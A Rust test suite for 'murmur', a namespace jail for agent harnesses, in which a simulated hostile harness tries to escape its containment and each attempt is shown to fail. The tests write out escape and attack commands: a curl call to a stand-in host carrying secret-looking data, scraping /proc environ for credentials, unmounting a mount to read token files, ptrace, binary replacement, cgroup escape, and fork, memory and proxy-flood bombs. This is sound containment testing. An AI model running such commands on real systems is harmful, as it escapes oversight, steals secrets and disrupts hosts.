//! The jail's escape suite (DESIGN §8, docs/containment.md): a hostile harness — the test
//! fixture running shell commands (`@run`) — tries to climb each wall of its attempt in
//! namespace mode, and fails:
//! - the network: a loopback listener it was not granted gets no connection, directly or
//!   through the proxy; an unlisted name is refused by the egress proxy with a sentence naming
//!   what may be reached, and traced as `egress_denied` (shown by `mur trace show`); the
//!   namespace has no interface but `lo`, no route and no resolver; a granted loopback
//!   destination is reached;
//! - the environment: a secret exported to `mur run` reaches neither the harness nor the
//!   namespace's init (whose `/proc/1/environ` it can read); a name the manifest lists does;
//! - murmur's own binary: a harness that replaces the `mur` file its capsule was started from
//!   gets none of its code run by the next attempt's keeper (started as `/proc/self/exe`);
//! - files: it writes its work folder and its private tmp, nothing else of the user's, and of
//!   the records it sees only its own session's;
//! - root's mounts: run as root (as it is here), the harness holds no capability that could
//!   unmount the hide over `$MURMUR_HOME/run`, and the token files stay out of sight.
//!
//! This machine grants namespaces (CI runs here too); a kernel that refuses them fails these
//! tests rather than skipping them, since the walls would then not be there.

mod support;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;
use support::*;

/// A loopback listener that counts the connections it accepts and answers each with a line.
struct Counting {
    port: u16,
    accepted: Arc<AtomicUsize>,
}

impl Counting {
    fn start() -> Counting {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { continue };
                count.fetch_add(1, Ordering::SeqCst);
                let mut buf = [0u8; 1024];
                let _ = conn.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = conn.read(&mut buf);
                let body = "counted\n";
                let _ = write!(
                    conn,
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        Counting { port, accepted }
    }

    fn count(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }
}

/// The fixture capsule in namespace mode, with `extra` manifest text.
fn jailed(home: &Home, extra: &str) -> Launch {
    jailed_env(home, extra, &[])
}

/// [`jailed`], with `env` exported to `mur run`.
fn jailed_env(home: &Home, extra: &str, env: &[(&str, String)]) -> Launch {
    let manifest = home.write(
        "murmur.yaml",
        &format!("{}{extra}", Fixture::default().yaml()),
    );
    let mut env = env.to_vec();
    env.push(("MURMUR_CONTAINMENT", "namespaces".to_owned()));
    // Of the test's own folders only the fixture's state is writable here (the other test
    // files open the whole test folder to their harnesses).
    let state = home.root.join("fixture-state");
    std::fs::create_dir_all(&state).unwrap();
    if !env.iter().any(|(k, _)| *k == "MURMUR_HARNESS_WRITABLE") {
        env.push(("MURMUR_HARNESS_WRITABLE", state.display().to_string()));
    }
    let run = Launch::start_env(home, &manifest, &[], &env);
    let start = home
        .trace(&run.session)
        .into_iter()
        .find(|e| e["event_type"] == "session_start")
        .unwrap();
    assert_eq!(start["containment"], "namespaces", "{start}");
    // The session says which walls stand, and why one is missing.
    assert_eq!(
        start["walls"],
        serde_json::json!({"pid": "up", "mount": "up", "network": "up", "files": "up",
            "environment": "up"}),
        "{start}"
    );
    run
}

/// Runs `command` in the harness with sh; answers `{"code", "out", "err"}` and the task's id.
fn harness_runs(run: &Launch, command: &str) -> (Value, String) {
    let done = run.send(&format!("@run {command}"), false);
    let task = &done["result"]["task"];
    assert_eq!(task["status"]["state"], "TASK_STATE_COMPLETED", "{done}");
    let said = task["artifacts"][0]["parts"][0]["text"].as_str().unwrap();
    (
        serde_json::from_str(said).unwrap(),
        task["id"].as_str().unwrap().to_owned(),
    )
}

fn egress_denied(home: &Home, run: &Launch) -> Vec<Value> {
    home.trace(&run.session)
        .into_iter()
        .filter(|e| e["event_type"] == "egress_denied")
        .collect()
}

#[test]
fn an_ungranted_loopback_listener_gets_no_connection() {
    let home = Home::new();
    let listener = Counting::start();
    let run = jailed(&home, "");
    let port = listener.port;
    // Straight at it, ignoring the proxy: nothing listens on that port inside the namespace.
    let (direct, _) = harness_runs(
        &run,
        &format!("curl -s -m 5 --noproxy '*' http://127.0.0.1:{port}/"),
    );
    assert_eq!(direct["code"], 7, "curl could not connect: {direct}");
    // Through the proxy: refused, named, traced.
    let (proxied, task) = harness_runs(
        &run,
        &format!("curl -s -m 5 --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:{port}/"),
    );
    assert_eq!(
        proxied["out"],
        format!(
            "murmur: egress to 127.0.0.1:{port} is refused: this capsule's harness may reach \
             nothing (capabilities.network.allow, the members it calls, and its CLI's \
             provider); add the destination to capabilities.network.allow to grant it\n"
        ),
        "{proxied}"
    );
    let denied = egress_denied(&home, &run);
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(
        (
            &denied[0]["task_id"],
            &denied[0]["host"],
            &denied[0]["port"]
        ),
        (
            &Value::from(task),
            &Value::from("127.0.0.1"),
            &Value::from(port)
        )
    );
    assert_eq!(listener.count(), 0, "the listener was reached");
}

#[test]
fn a_granted_loopback_destination_is_reached() {
    let home = Home::new();
    let listener = Counting::start();
    let port = listener.port;
    let run = jailed(
        &home,
        &format!("capabilities:\n  network:\n    allow: [\"127.0.0.1:{port}\"]\n"),
    );
    let (direct, _) = harness_runs(&run, &format!("curl -s -m 5 http://127.0.0.1:{port}/"));
    assert_eq!(
        (direct["code"].as_i64(), direct["out"].as_str()),
        (Some(0), Some("counted\n"))
    );
    assert_eq!(listener.count(), 1);
    let (proxied, _) = harness_runs(
        &run,
        &format!("curl -s -m 5 --noproxy '' --proxy \"$HTTP_PROXY\" http://127.0.0.1:{port}/"),
    );
    assert_eq!(proxied["out"], "counted\n", "{proxied}");
    assert_eq!(listener.count(), 2);
    assert!(egress_denied(&home, &run).is_empty());
}

#[test]
fn an_unlisted_name_is_refused_and_nothing_routes_off_loopback() {
    let home = Home::new();
    let run = jailed(&home, "");
    let (said, task) = harness_runs(&run, "curl -s -m 5 http://unlisted.example/secret?k=v");
    assert!(
        said["out"]
            .as_str()
            .unwrap()
            .starts_with("murmur: egress to unlisted.example:80 is refused"),
        "{said}"
    );
    let (tls, _) = harness_runs(&run, "curl -s -m 5 https://unlisted.example/");
    assert_ne!(tls["code"], 0, "CONNECT was refused: {tls}");
    let denied = egress_denied(&home, &run);
    assert_eq!(denied.len(), 2, "{denied:?}");
    assert_eq!(
        (&denied[0]["host"], &denied[0]["port"], &denied[1]["port"]),
        (
            &Value::from("unlisted.example"),
            &Value::from(80),
            &Value::from(443)
        )
    );
    // No resolver, no interface but lo, no route: a program that ignores the proxy variables
    // has nowhere to send a packet.
    let (dns, _) = harness_runs(&run, "getent hosts unlisted.example");
    assert_ne!(dns["code"], 0, "{dns}");
    let (net, _) = harness_runs(
        &run,
        "awk 'NR > 2 { print $1 }' /proc/net/dev; tail -n +2 /proc/net/route",
    );
    assert_eq!(net["out"], "lo:\n", "{net}");
    // `mur trace show` names each refusal under Harness.
    let (code, out, err) = home.run(&["trace", "show", &run.session]);
    assert_eq!(code, 0, "{err}");
    let short = &task[..12];
    let line = format!("{short}  egress refused  unlisted.example:80");
    assert!(
        out.lines().any(|l| l.ends_with(&line)),
        "no line {line:?} in\n{out}"
    );
}

#[test]
fn root_in_the_jail_cannot_unmount_the_hide() {
    let home = Home::new();
    // Another session of the same user, with minted tokens in $MURMUR_HOME/run.
    let guarded = {
        let m = home.write(
            "guarded/murmur.yaml",
            &format!(
                "{}network:\n  authentication:\n    scheme: bearer\n",
                Fixture::default().yaml()
            ),
        );
        Launch::start(&home, &m, &[])
    };
    let run = jailed(&home, "");
    let run_dir = home.home.join("run");
    let tokens = run_dir.join(format!("{}.tokens", guarded.session));
    assert!(tokens.exists());
    let operator = home.operator_token(&guarded.session);
    let (said, _) = harness_runs(
        &run,
        &format!(
            "umount {dir} || umount -l {dir}; cat {dir}/*.tokens; grep CapEff /proc/self/status",
            dir = run_dir.display()
        ),
    );
    assert!(!said.to_string().contains(&operator), "{said}");
    let err = said["err"].as_str().unwrap();
    assert!(err.contains("umount"), "umount was refused: {said}");
    // Only CAP_SETFCAP (bit 31) is left, whatever the uid: no CAP_SYS_ADMIN to undo a mount.
    assert!(
        said["out"]
            .as_str()
            .unwrap()
            .contains("CapEff:\t0000000080000000"),
        "{said}"
    );
}

#[test]
fn a_planted_secret_in_murs_environment_reaches_no_harness() {
    let home = Home::new();
    let secret = "planted-secret-4242";
    let run = jailed_env(
        &home,
        "harness:\n  env: [NPM_TOKEN]\n",
        &[
            ("AWS_SECRET_ACCESS_KEY", secret.to_owned()),
            ("SSH_AUTH_SOCK", format!("/tmp/{secret}.sock")),
            ("OPENAI_API_KEY", secret.to_owned()),
            ("NPM_TOKEN", "declared-npm-token".to_owned()),
        ],
    );
    let (said, _) = harness_runs(
        &run,
        "env; echo ---; tr '\\0' '\\n' < /proc/1/environ; echo ---; for p in /proc/[0-9]*; do \
         tr '\\0' '\\n' < $p/environ; done 2>/dev/null",
    );
    let out = said["out"].as_str().unwrap();
    assert!(!out.contains(secret), "a secret reached the jail: {out}");
    assert!(!out.contains("MURMUR_HOME="), "{out}");
    let env_part = out.split("---").next().unwrap();
    assert!(
        env_part
            .lines()
            .any(|l| l == "NPM_TOKEN=declared-npm-token"),
        "the manifest's harness.env passes: {env_part}"
    );
    assert!(env_part.lines().any(|l| l.starts_with("PATH=")));
}

#[test]
fn replacing_the_mur_binary_runs_nothing_of_the_harnesss() {
    let mut home = Home::new();
    // A mur in the work folder (a project's own build, say), which the harness may write.
    let bin = home.work.join("bin/mur");
    std::fs::create_dir_all(bin.parent().unwrap()).unwrap();
    std::fs::copy(mur_bin(), &bin).unwrap();
    home.bin = bin.clone();
    let run = jailed(&home, "");
    let marker = home.root.join("planted-ran");
    let planted = home.write(
        "planted.sh",
        &format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
    );
    let (said, _) = harness_runs(
        &run,
        &format!(
            "cp {} {bin}.new && chmod +x {bin}.new && mv {bin}.new {bin}",
            planted.display(),
            bin = bin.display()
        ),
    );
    assert_eq!(
        said["code"], 0,
        "the harness could replace the file: {said}"
    );
    // The next attempt's keeper is murmur's own binary still: the task runs, nothing planted.
    let (again, _) = harness_runs(&run, "echo still-contained");
    assert_eq!(again["out"], "still-contained\n", "{again}");
    assert!(!marker.exists(), "the planted program ran");
}

#[test]
fn the_harness_writes_only_its_work_folder_and_private_tmp() {
    let home = Home::new();
    // Another session of this folder, whose records the harness must not see.
    let other = {
        let m = home.write("other/murmur.yaml", &Fixture::default().yaml());
        Launch::start(&home, &m, &[])
    };
    let run = jailed(&home, "");
    let outside = home.root.join("outside.txt");
    let sessions = home.records(&run.session).parent().unwrap().to_path_buf();
    let (said, _) = harness_runs(
        &run,
        &format!(
            "echo x > {outside}; echo outside=$?; echo x > ./inside.txt; echo inside=$?; \
             echo x > \"$TMPDIR/t\"; echo tmp=$?; ls {sessions}; cat {trace} >/dev/null; \
             echo other-trace=$?",
            outside = outside.display(),
            sessions = sessions.display(),
            trace = home.records(&other.session).join("trace.jsonl").display(),
        ),
    );
    assert_eq!(
        said["out"],
        format!(
            "outside=2\ninside=0\ntmp=0\n{}\nother-trace=1\n",
            run.session
        ),
        "{said}"
    );
    assert!(!outside.exists());
    assert_eq!(
        std::fs::read_to_string(home.work.join("inside.txt")).unwrap(),
        "x\n"
    );
}

#[test]
fn a_manifest_that_requires_a_wall_is_refused_where_it_is_missing() {
    let home = Home::new();
    let manifest = home.write(
        "murmur.yaml",
        &format!(
            "{}harness:\n  require: [network, files]\n",
            Fixture::default().yaml()
        ),
    );
    let out = home
        .mur()
        .env("MURMUR_CONTAINMENT", "fallback")
        .args(["run", "--manifest"])
        .arg(&manifest)
        .args(["--task", "hi"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        format!(
            "error[E-RUN-050]: {} requires the network wall (harness.require), which is missing: \
             fallback mode, MURMUR_CONTAINMENT=fallback asks for it\n  hint: run it where the \
             kernel grants unprivileged user, PID, mount and network namespaces (`mur install` \
             lists the walls), or drop that wall from harness.require\n",
            manifest.display()
        )
    );
    let sessions = home.records("none").parent().unwrap().to_path_buf();
    let started = std::fs::read_dir(&sessions).map(|d| d.count()).unwrap_or(0);
    assert_eq!(started, 0, "nothing started");
    // Where the walls stand, it runs.
    let run = jailed(&home, "harness:\n  require: [network, files]\n");
    let (said, _) = harness_runs(&run, "echo walled");
    assert_eq!(said["out"], "walled\n");
}

#[test]
fn the_formations_wiring_files_and_the_capsules_processes_are_out_of_reach() {
    let home = Home::new();
    // A running formation of the same user: its members' wiring files sit in $MURMUR_HOME/run.
    let (formation, _members) = Launch::start_formation(
        &home,
        &repo_root().join("manifests/split/formation.yaml"),
        &[],
    );
    let run_dir = home.home.join("run");
    let wiring: Vec<_> = std::fs::read_dir(&run_dir)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "wiring"))
        .collect();
    assert!(!wiring.is_empty(), "the formation wrote its wiring");
    let run = jailed(&home, "");
    let capsule = descendants(run.pid())
        .into_iter()
        .find(|p| cmdline(*p).contains("__capsule"))
        .unwrap();
    let (said, _) = harness_runs(
        &run,
        &format!(
            "ls -A {run}; cat {wiring}; ls /proc/{pid}/root; cat /proc/{pid}/environ; kill -0 {pid}; \
             python3 -c 'import ctypes; print(ctypes.CDLL(None).ptrace(16, {pid}, 0, 0))'",
            run = run_dir.display(),
            wiring = wiring[0].display(),
            pid = capsule
        ),
    );
    // The run folder is empty, the wiring unreadable; the capsule's pid is not in the
    // harness's PID namespace, so neither /proc, signals nor ptrace (PTRACE_ATTACH) reach it.
    assert_eq!(said["out"], "-1\n", "{said}");
    let err = said["err"].as_str().unwrap();
    assert!(
        err.contains(&format!(
            "cat: {}: No such file or directory",
            wiring[0].display()
        )),
        "{err}"
    );
    assert!(err.contains(&format!("/proc/{capsule}/root")), "{err}");
    drop(formation);
}

#[test]
fn mur_watch_names_each_egress_refusal() {
    let home = Home::new();
    let run = jailed(&home, "");
    let (mut watch, lines) = watch_lines(&home, &run.session);
    // The watch is connected once the door's connection-ack is printed.
    assert!(wait_until(Duration::from_secs(30), || lines
        .lock()
        .unwrap()
        .iter()
        .any(|l| l == "[connection-ack]")));
    let (_, task) = harness_runs(&run, "curl -s -m 5 http://unlisted.example/");
    let expected = format!("{}  egress refused  unlisted.example:80", &task[..12]);
    let seen = wait_until(Duration::from_secs(30), || {
        lines.lock().unwrap().contains(&expected)
    });
    let _ = watch.kill();
    let _ = watch.wait();
    assert!(seen, "no line {expected:?} in {:?}", lines.lock().unwrap());
}

#[test]
fn an_agent_socket_of_the_users_is_out_of_reach() {
    let home = Home::new();
    // An ssh-agent-like socket of the user's, where agents keep them: a folder of its own under
    // /tmp, readable by the harness like the rest of /tmp.
    let dir = std::env::temp_dir().join(format!(
        "murmur-ssh-{}-{}",
        std::process::id(),
        home.root.file_name().unwrap().to_string_lossy()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let run = jailed(&home, "");
    let (said, _) = harness_runs(
        &run,
        &format!(
            "ls {sock}; python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); \
             s.connect('{sock}')\"",
            sock = path.display()
        ),
    );
    // The file is in sight, but no unix socket can be opened to reach it.
    assert_eq!(said["out"], format!("{}\n", path.display()), "{said}");
    assert_ne!(said["code"], 0, "{said}");
    assert!(
        said["err"].as_str().unwrap().contains("PermissionError"),
        "{said}"
    );
    assert!(listener.accept().is_err(), "the socket took a connection");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_wall_that_cannot_be_raised_refuses_the_attempt() {
    let home = Home::new();
    let missing = home.root.join("no-such-folder");
    let run = jailed_env(
        &home,
        "",
        &[("MURMUR_HARNESS_WRITABLE", missing.display().to_string())],
    );
    let done = run.send("@run echo should-not-run", false);
    let task = &done["result"]["task"];
    assert_eq!(task["status"]["state"], "TASK_STATE_FAILED", "{done}");
    // The wall never fails open: the attempt is refused, naming what could not be kept.
    assert_eq!(
        task["status"]["message"]["parts"][0]["text"],
        format!(
            "the harness could not be contained: cannot let the harness at {}: it is not an \
             absolute path to a folder",
            missing.display()
        )
    );
    let exit = home
        .trace(&run.session)
        .into_iter()
        .find(|e| e["event_type"] == "harness_exit")
        .unwrap();
    assert_eq!(exit["cause"], "not_started", "{exit}");
}

// ---- bounds ----

/// Starts `mur run --manifest M` with `env` (and namespace mode) as some user, and answers the
/// launch and its members (none for a lone capsule). The rows below take one, so the same row
/// can run as the user the tests run as and as an unprivileged one.
type Launcher = fn(&Home, &std::path::Path, &[(&str, String)]) -> (Launch, Vec<Member>);

/// [`Launcher`] as the user running the tests.
fn as_invoker(
    home: &Home,
    manifest: &std::path::Path,
    env: &[(&str, String)],
) -> (Launch, Vec<Member>) {
    let mut env = env.to_vec();
    env.push(("MURMUR_CONTAINMENT", "namespaces".to_owned()));
    let state = home.root.join("fixture-state");
    std::fs::create_dir_all(&state).unwrap();
    env.push(("MURMUR_HARNESS_WRITABLE", state.display().to_string()));
    Launch::start_formation_env(home, manifest, &[], &env)
}

/// A lead with 40 callees: 83 listeners cross from its keeper (the proxy, and an IPv4 and an
/// IPv6 one for its door and each callee), far more than one message carried; its harness
/// reaches its door, its first and its last callee through them.
fn forty_callees_all_reachable(launch: Launcher) {
    let home = Home::new();
    home.write(
        "f/worker/murmur.yaml",
        &Fixture {
            extra: "exports:\n  peer_tasks:\n    accept: true\n",
            ..Fixture::default()
        }
        .yaml(),
    );
    home.write(
        "f/lead/murmur.yaml",
        &Fixture {
            name: "lead",
            ..Fixture::default()
        }
        .yaml(),
    );
    let workers: Vec<String> = (1..=40).map(|i| format!("w{i}")).collect();
    let mut members = format!(
        "    lead: {{ manifest: lead/murmur.yaml, calls: [{}] }}\n",
        workers.join(", ")
    );
    for w in &workers {
        members.push_str(&format!("    {w}: {{ manifest: worker/murmur.yaml }}\n"));
    }
    let manifest = home.write(
        "f/formation.yaml",
        &format!(
            "formation:\n  name: wide\n  version: \"0.1.0\"\n  entry: lead\n  members:\n{members}"
        ),
    );
    let (_run, members) = launch(&home, &manifest, &[]);
    assert_eq!(members.len(), 41);
    let lead = members.iter().find(|m| m.name == "lead").unwrap();
    let operator = home.operator_token(&lead.session);
    let done = bearer_rpc(
        lead.port,
        &operator,
        "SendMessage",
        message(
            "@run curl -s -o /dev/null -w '%{http_code}\\n' \"$MURMUR_DOOR_URL/.well-known/agent-card.json\" \
             && mur call-member w1 hello && mur call-member w40 hello",
            false,
        ),
    );
    let task = &done["result"]["task"];
    assert_eq!(task["status"]["state"], "TASK_STATE_COMPLETED", "{done}");
    let said: Value =
        serde_json::from_str(task["artifacts"][0]["parts"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(
        (said["code"].as_i64(), said["out"].as_str()),
        (Some(0), Some("200\nAcknowledged.\nAcknowledged.\n")),
        "{said}"
    );
}

#[test]
fn a_lead_with_forty_callees_reaches_its_door_and_its_callees() {
    forty_callees_all_reachable(as_invoker);
}

/// The capsule process below a launch.
fn capsule_of(run: &Launch) -> u32 {
    descendants(run.pid())
        .into_iter()
        .find(|p| cmdline(*p).contains("__capsule"))
        .expect("the launch runs a capsule")
}

fn open_descriptors(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| d.count())
        .unwrap_or(0)
}

/// A harness opens as many connections to its proxy as it can in 4 s (up to 1,000), each
/// sending half a `CONNECT` head, and holds them. The capsule accepts no more than the attempt's cap (256 on a 20,000-descriptor
/// limit), its door answers a GetTask within 1 s meanwhile, and the first connection, held
/// past the head deadline, is answered `408`.
fn a_proxy_flood_leaves_the_door_answering(launch: Launcher) {
    let home = Home::new();
    let manifest = home.write("murmur.yaml", &Fixture::default().yaml());
    let (run, _) = launch(&home, &manifest, &[]);
    let flooded = home.root.join("fixture-state/flooded");
    let flood = home.write(
        "flood.py",
        &format!(
            r#"import os, socket, time
host, port = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].rsplit(":", 1)
def half():
    s = socket.socket()
    s.settimeout(0.2)
    s.connect((host, int(port)))
    s.sendall(b"CONNECT held.example:443 HTTP/1.1\r\n")
    return s
first, held, started = half(), [], time.time()
while len(held) < 999 and time.time() - started < 4:
    try:
        held.append(half())
    except OSError:
        pass
open("{flooded}", "w").write(str(len(held)))
first.settimeout(30)
answer = first.recv(100).split(b"\r\n")[0].decode()
print(answer, round(time.time() - started))
"#,
            flooded = flooded.display()
        ),
    );
    let task = run.start_task(&format!("@run python3 {}", flood.display()));
    assert!(
        wait_until(Duration::from_secs(60), || flooded.exists()),
        "the flood never finished opening: {}",
        run.rpc("GetTask", serde_json::json!({"id": task}))
    );
    let capsule = capsule_of(&run);
    let opened: usize = std::fs::read_to_string(&flooded).unwrap().parse().unwrap();
    let held = open_descriptors(capsule);
    // More were opened than the cap admits (the rest wait in the listener's backlog), and the
    // capsule holds the cap's worth and its own few dozen.
    assert!(opened > 300, "the flood opened only {opened}");
    assert!(
        held < 256 + 100,
        "the capsule holds {held} descriptors for {opened} connections"
    );
    for _ in 0..5 {
        let asked = std::time::Instant::now();
        let got = run.rpc("GetTask", serde_json::json!({"id": task}));
        let took = asked.elapsed();
        assert_eq!(
            got["result"]["status"]["state"], "TASK_STATE_WORKING",
            "{got}"
        );
        assert!(took < Duration::from_secs(1), "GetTask took {took:?}");
    }
    let done = run.wait_task(&task, Duration::from_secs(60), |s| {
        s == "TASK_STATE_COMPLETED"
    });
    let said: Value =
        serde_json::from_str(done["artifacts"][0]["parts"][0]["text"].as_str().unwrap()).unwrap();
    let out = said["out"].as_str().unwrap();
    let (status, after) = out.trim().rsplit_once(' ').unwrap();
    assert_eq!(status, "HTTP/1.1 408 Request Timeout", "{said}");
    let after: u64 = after.parse().unwrap();
    assert!((10..=20).contains(&after), "answered after {after} s");
}

#[test]
fn a_proxy_flood_leaves_the_door_answering_within_a_second() {
    a_proxy_flood_leaves_the_door_answering(as_invoker);
}

/// The cgroups of the capsule `capsule`'s keepers (`murmur-<capsule>-<n>`), in every hierarchy
/// this machine has.
fn cgroups_of(capsule: u32) -> Vec<std::path::PathBuf> {
    let own = std::fs::read_to_string(format!("/proc/{capsule}/cgroup")).unwrap_or_default();
    let mut found = Vec::new();
    for line in own.lines() {
        let mut parts = line.splitn(3, ':');
        let (_, controllers, path) = (parts.next(), parts.next(), parts.next());
        let (Some(controllers), Some(path)) = (controllers, path) else {
            continue;
        };
        let mounts = match controllers {
            "" => vec![
                "/sys/fs/cgroup".to_owned(),
                "/sys/fs/cgroup/unified".to_owned(),
            ],
            names => names
                .split(',')
                .map(|n| format!("/sys/fs/cgroup/{n}"))
                .collect(),
        };
        for mount in mounts {
            let Ok(entries) = std::fs::read_dir(format!("{mount}{path}")) else {
                continue;
            };
            let prefix = format!("murmur-{capsule}-");
            found.extend(
                entries
                    .flatten()
                    .filter(|e| e.file_name().to_string_lossy().starts_with(&prefix))
                    .map(|e| e.path()),
            );
        }
    }
    found
}

/// The processes in the cgroup folder `dir`.
fn cgroup_procs(dir: &std::path::Path) -> Vec<u32> {
    std::fs::read_to_string(dir.join("cgroup.procs"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.parse().ok())
        .collect()
}

/// A bomb the harness sets off under `limits` is stopped by them: the task fails with
/// `status`, the door still answers, nothing of the attempt is left in /proc or in its cgroup
/// (the next attempt's keeper, waiting ready, has one of its own), and no cgroup is left once
/// the capsule ends.
fn a_bomb_is_stopped_by_its_limit(launch: Launcher, limits: &str, bomb: &str, status: &str) {
    let home = Home::new();
    let manifest = home.write(
        "murmur.yaml",
        &format!(
            "{}harness:\n  limits: {limits}\n",
            Fixture::default().yaml()
        ),
    );
    let (run, _) = launch(&home, &manifest, &[]);
    let task = run.start_task(&format!("@run {bomb}"));
    let done = run.wait_task(&task, Duration::from_secs(60), |s| {
        s == "TASK_STATE_FAILED" || s == "TASK_STATE_COMPLETED"
    });
    assert_eq!(done["status"]["state"], "TASK_STATE_FAILED", "{done}");
    assert_eq!(
        done["status"]["message"]["parts"][0]["text"], status,
        "{done}"
    );
    // The capsule is still there, and answers.
    let again = run.rpc("GetTask", serde_json::json!({"id": task}));
    assert_eq!(
        again["result"]["status"]["state"], "TASK_STATE_FAILED",
        "{again}"
    );
    // The next attempts run in cgroups taken again, the bombed one among them (the ready
    // keeper had the other): what it counted then does not fail them.
    for _ in 0..2 {
        let (said, _) = harness_runs(&run, "echo fine");
        assert_eq!(said["out"], "fine\n", "{said}");
    }
    let capsule = capsule_of(&run);
    // The attempt's cgroup is empty again (kept for a later keeper); the only processes in
    // the capsule's cgroups are the ready keeper's.
    let settled = wait_until(Duration::from_secs(10), || {
        descendants_at_work(capsule).is_empty()
            && cgroups_of(capsule)
                .iter()
                .flat_map(|d| cgroup_procs(d))
                .all(ready_keeper)
    });
    let cgroups = cgroups_of(capsule);
    assert!(
        settled,
        "left running: {:?}; in the cgroups {:?}",
        descendants_at_work(capsule),
        cgroups
            .iter()
            .map(|d| (d.clone(), cgroup_procs(d)))
            .collect::<Vec<_>>()
    );
    assert!(!cgroups.is_empty(), "the attempt had a cgroup");
    // Once the capsule ends, none of its cgroups is left.
    drop(run);
    assert!(
        wait_until(Duration::from_secs(10), || cgroups
            .iter()
            .all(|d| !d.exists())),
        "left behind: {:?}",
        cgroups.iter().filter(|d| d.exists()).collect::<Vec<_>>()
    );
}

#[test]
fn a_fork_bomb_is_stopped_by_its_pids_limit() {
    a_bomb_is_stopped_by_its_limit(
        as_invoker,
        "{ pids: 64 }",
        "timeout 5 bash -c ':(){ :|:& };:' >/dev/null 2>&1; echo bombed",
        "the harness reached its pids limit (harness.limits.pids: 64)",
    );
}

#[test]
fn a_memory_bomb_is_stopped_by_its_memory_limit() {
    a_bomb_is_stopped_by_its_limit(
        as_invoker,
        "{ memory: \"128MiB\" }",
        "python3 -c 'b = [bytearray(1 << 20) for _ in range(1024)]'; echo bombed",
        "the harness reached its memory limit (harness.limits.memory: \"128MiB\")",
    );
}

/// The harness, root here, tries to lift its own pids limit and to leave its cgroup for the
/// capsule's: /sys/fs/cgroup is read-only in its mount namespace, so it can do neither.
fn the_harness_cannot_lift_its_limits(launch: Launcher) {
    let home = Home::new();
    let manifest = home.write(
        "murmur.yaml",
        &format!(
            "{}harness:\n  limits: {{ pids: 64 }}\n",
            Fixture::default().yaml()
        ),
    );
    let (run, _) = launch(&home, &manifest, &[]);
    let done = run.send(
        "@run own=$(grep -E '^[0-9]+:pids:' /proc/self/cgroup | cut -d: -f3); \
         echo max > /sys/fs/cgroup/pids$own/pids.max; echo lift=$?; \
         echo $$ > /sys/fs/cgroup/pids$(dirname $own)/cgroup.procs; echo leave=$?; \
         cat /sys/fs/cgroup/pids$own/pids.max; grep -c \"pids:$own$\" /proc/self/cgroup",
        false,
    );
    let task = &done["result"]["task"];
    assert_eq!(task["status"]["state"], "TASK_STATE_COMPLETED", "{done}");
    let said: Value =
        serde_json::from_str(task["artifacts"][0]["parts"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(said["out"], "lift=2\nleave=2\n64\n1\n", "{said}");
    assert!(
        said["err"]
            .as_str()
            .unwrap()
            .contains("Read-only file system"),
        "{said}"
    );
}

#[test]
fn the_harness_cannot_lift_its_limits_or_leave_its_cgroup() {
    the_harness_cannot_lift_its_limits(as_invoker);
}

/// The private tmp holds what `harness.limits.tmp` says and no more: a write past it fails
/// with ENOSPC, and the next attempt's tmp starts empty.
fn the_private_tmp_is_bounded(launch: Launcher) {
    let home = Home::new();
    let manifest = home.write(
        "murmur.yaml",
        &format!(
            "{}harness:\n  limits: {{ tmp: \"1MiB\" }}\n",
            Fixture::default().yaml()
        ),
    );
    let (run, _) = launch(&home, &manifest, &[]);
    let done = run.send(
        "@run head -c 2097152 /dev/zero > \"$TMPDIR/big\"; echo wrote=$?; \
         stat -c %s \"$TMPDIR/big\"",
        false,
    );
    let task = &done["result"]["task"];
    assert_eq!(task["status"]["state"], "TASK_STATE_COMPLETED", "{done}");
    let said: Value =
        serde_json::from_str(task["artifacts"][0]["parts"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(said["out"], "wrote=1\n1048576\n", "{said}");
    assert!(
        said["err"]
            .as_str()
            .unwrap()
            .contains("No space left on device"),
        "{said}"
    );
    let again = run.send("@run ls -A \"$TMPDIR\"; echo listed", false);
    let task = &again["result"]["task"];
    let said: Value =
        serde_json::from_str(task["artifacts"][0]["parts"][0]["text"].as_str().unwrap()).unwrap();
    assert_eq!(said["out"], "listed\n", "{said}");
}

#[test]
fn the_private_tmp_holds_no_more_than_its_limit() {
    the_private_tmp_is_bounded(as_invoker);
}
